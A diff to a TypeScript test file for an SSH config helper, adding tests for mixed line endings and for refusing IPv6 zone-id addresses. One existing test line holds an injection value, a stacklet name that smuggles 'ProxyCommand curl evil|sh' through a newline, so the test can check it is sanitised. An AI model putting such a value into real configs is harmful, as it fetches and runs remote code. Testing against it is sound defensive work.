@@ -67,6 +67,43 @@ Host *
     assert.equal(upsertHost('Port 22', entry).text, `Port 22\n\n${STACKLET_COMMENT}\nHost stacklet-web-1\n    HostName 203.0.113.7\n    User root`);
   });
 
+  it('keeps each line\'s own ending in a file of mixed endings; the lines it adds take the ending most lines have', () => {
+    const mixed = 'Port 22\r\nServerAliveInterval 30\n# work\r\nHost bastion\r\n    User me\n';
+    assert.equal(
+      upsertHost(mixed, entry).text,
+      `Port 22\r\nServerAliveInterval 30\n${STACKLET_COMMENT}\r\nHost stacklet-web-1\r\n    HostName 203.0.113.7\r\n    User root\r\n\r\n# work\r\nHost bastion\r\n    User me\n`,
+    );
+    const mostlyLf = 'Port 22\r\nA b\nC d\n';
+    assert.equal(upsertHost(mostlyLf, entry).text, `Port 22\r\nA b\nC d\n\n${STACKLET_COMMENT}\nHost stacklet-web-1\n    HostName 203.0.113.7\n    User root\n`);
+    // Brought up to date in place: the changed line keeps its ending, the added one takes the file's.
+    const existing = 'Host stacklet-web-1\r\n  HostName 192.0.2.1\n  Port 2222\r\n  # note\r\n';
+    assert.equal(upsertHost(existing, entry).text, 'Host stacklet-web-1\r\n  HostName 203.0.113.7\n  Port 2222\r\n  User root\r\n  # note\r\n');
+  });
+
+  it('whatever the endings of a file\'s lines: each line comes back with its own, in order', () => {
+    const line = fc.constantFrom('Port 22', '# comment', '', '   ', 'Host a', '  User x', 'Host *', '\tIdentitiesOnly yes');
+    fc.assert(
+      fc.property(fc.array(fc.tuple(line, fc.constantFrom('\n', '\r\n')), { minLength: 1, maxLength: 12 }), fc.boolean(), (pairs, finalEnding) => {
+        const config = pairs.map(([text, eol], i) => text + (i === pairs.length - 1 && !finalEnding ? '' : eol)).join('');
+        if (config === '') return; // a new file (see above)
+        const { text } = upsertHost(config, entry);
+        const pieces = text.split(/(?<=\n)/);
+        let at = 0;
+        pairs.forEach(([original, eol], i) => {
+          // The last line without an ending gains one when the entry comes after it.
+          const lastWithout = i === pairs.length - 1 && !finalEnding;
+          if (lastWithout && original === '') return; // no line at all: the file ends with the one before
+          const wanted = lastWithout ? [original, original + '\n', original + '\r\n'] : [original + eol];
+          const found = pieces.findIndex((piece, j) => j >= at && wanted.includes(piece));
+          assert.ok(found !== -1, `${JSON.stringify(wanted[0])} (line ${i + 1}) in ${JSON.stringify(text)}`);
+          at = found + 1;
+        });
+        assert.equal(text.endsWith('\n'), config.endsWith('\n'));
+      }),
+      { numRuns: 500 },
+    );
+  });
+
   it('makes a host alias of a stacklet name that cannot carry anything else', () => {
     assert.equal(hostAlias('web-1', 7), 'stacklet-web-1');
     assert.equal(hostAlias('Web 1\nProxyCommand curl evil|sh', 7), 'stacklet-web-1-proxycommand-curl-evil-sh');
@@ -91,6 +128,16 @@ Host *
       assert.throws(() => upsertHost(EXISTING, e), RangeError);
     }
     assert.equal(hostEntryProblem({ ...entry, hostName: '2001:db8::7' }), undefined);
+  });
+
+  it('refuses an address with a zone id, which ssh would expand (%h, %e) and the service cannot know, with a message', () => {
+    for (const hostName of ['fe80::1%h', 'fe80::1%e', 'fe80::1%eth0', 'fe80::1%1']) {
+      const problem = hostEntryProblem({ ...entry, hostName });
+      assert.match(problem ?? '', /network interface of this computer/, hostName);
+      assert.ok(problem!.includes(hostName), problem);
+      assert.throws(() => upsertHost(EXISTING, { ...entry, hostName }), RangeError);
+    }
+    assert.equal(hostEntryProblem({ ...entry, hostName: 'fe80::1' }), undefined);
   });
 
   it('whatever the stacklet is called: one Host entry more, exactly the options it sets, all else unchanged', () => {
